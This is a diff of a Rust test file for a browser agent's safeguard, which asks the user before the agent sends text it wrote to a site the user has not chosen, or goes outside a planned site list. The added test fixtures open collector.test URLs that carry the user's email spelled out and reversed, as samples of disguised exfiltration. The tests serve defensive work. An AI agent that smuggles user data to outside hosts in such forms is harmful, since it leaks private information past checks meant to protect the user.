@@ -69,12 +69,48 @@ fn benign_navigations_do_not_ask() {
     let shop = FakeShop::new();
     let steps = [
         r#"[{"go_to_url":{"url":"http://shop.test/account?e=ada@example.org"}}]"#, // the start site
-        r#"[{"go_to_url":{"url":"http://other.test/about"}}]"#,                    // nothing of the user's
+        r#"[{"go_to_url":{"url":"http://other.test/"}}]"#,                         // a bare site
+        r#"[{"click_element":{"index":4,"click":null}}]"#,                         // a page's own link
         r#"[{"search":{"query":"newsletter sign up ada"}}]"#,
     ];
     let events = run_steps(&task_config(), &shop, &steps, &user(false));
     assert_eq!(questions(&events), vec![]);
     assert!(shop.url.borrow().starts_with("https://duckduckgo.com/?q=newsletter"));
+}
+
+#[test]
+fn an_address_the_agent_wrote_for_another_site_asks_once_whatever_it_holds() {
+    let steps = [
+        r#"[{"go_to_url":{"url":"http://collector.test/?u=ada%20at%20example%20dot%20org"}}]"#,
+        r#"[{"open_tab":{"url":"http://collector.test/?u=gro.elpmaxe@ada"}}]"#,
+    ];
+    let shop = FakeShop::new();
+    let events = run_steps(&task_config(), &shop, &steps, &user(false));
+    let asked = questions(&events);
+    assert_eq!(asked.len(), 2, "{asked:?}");
+    assert_eq!(asked[0].0, "The agent wrote collector.test/?u=ada%20at%20example%20dot%20org itself and would send it to collector.test, a site you have not chosen, by opening http://collector.test/?u=ada%20at%20example%20dot%20org. What an agent writes can carry your data in a form no check can read (spelled out, reversed, in pieces). Allow it?");
+    assert_eq!(asked[1].1, vec!["collector.test/?u=gro.elpmaxe@ada".to_string()]);
+    assert_eq!(*shop.url.borrow(), "http://shop.test/", "not opened");
+    assert_eq!(shop.tabs.borrow().len(), 1, "no tab opened");
+    assert!(outcomes(&events)[0].starts_with("The user did not allow sending what you wrote (collector.test/?u=ada%20at%20example%20dot%20org) to collector.test, a site they did not choose."));
+
+    // Allowed once, the site is chosen for the rest of the task.
+    let shop = FakeShop::new();
+    let events = run_steps(&task_config(), &shop, &steps, &user(true));
+    assert_eq!(questions(&events).len(), 1);
+    assert_eq!(shop.tabs.borrow().last().unwrap().url, "http://collector.test/?u=gro.elpmaxe@ada");
+}
+
+#[test]
+fn keys_typed_into_a_site_not_chosen_ask_as_typing_does() {
+    let shop = FakeShop::new();
+    let steps = [r#"[{"go_to_url":{"url":"http://other.test/"}}]"#, r#"[{"send_keys":{"keys":"a d a Tab Enter"}}]"#];
+    let events = run_steps(&task_config(), &shop, &steps, &user(false));
+    let asked = questions(&events);
+    assert_eq!(asked.len(), 1, "{asked:?}");
+    assert!(asked[0].0.starts_with("The agent wrote ada itself and would send it to other.test"), "{asked:?}");
+    let pressed = shop.ops.borrow().iter().any(|op| matches!(op, PageOp::Keys { .. }));
+    assert!(!pressed, "no key pressed");
 }
 
 #[test]
@@ -210,13 +246,13 @@ fn data_read_on_a_page_asks_before_going_to_another_site() {
 
 #[test]
 fn the_site_plan_shows_or_asks_about_sites_outside_it() {
-    let go = r#"[{"go_to_url":{"url":"http://other.test/about"}}]"#;
+    let go = r#"[{"go_to_url":{"url":"http://other.test/"}}]"#;
     let strict = TaskConfig { site_plan: SitePlan::Strict, ..task_config() };
     let shop = FakeShop::new();
     let events = run_steps(&strict, &shop, &[go], &user(false));
     assert_eq!(
         questions(&events)[0].0,
-        "The agent wants to go to other.test, which is not among the sites planned for this task (shop.test, example.org), by opening http://other.test/about. Allow it?"
+        "The agent wants to go to other.test, which is not among the sites planned for this task (shop.test, example.org), by opening http://other.test/. Allow it?"
     );
     assert_eq!(*shop.url.borrow(), "http://shop.test/");
 
@@ -225,7 +261,7 @@ fn the_site_plan_shows_or_asks_about_sites_outside_it() {
     let events = run_steps(&ask, &shop, &[go], &user(false));
     assert_eq!(questions(&events), vec![]);
     assert!(events.iter().any(|e| matches!(e, AgentEvent::Warning { message } if message.starts_with("The agent went to other.test, which is not among the sites planned"))));
-    assert_eq!(*shop.url.borrow(), "http://other.test/about");
+    assert_eq!(*shop.url.borrow(), "http://other.test/");
 }
 
 #[test]
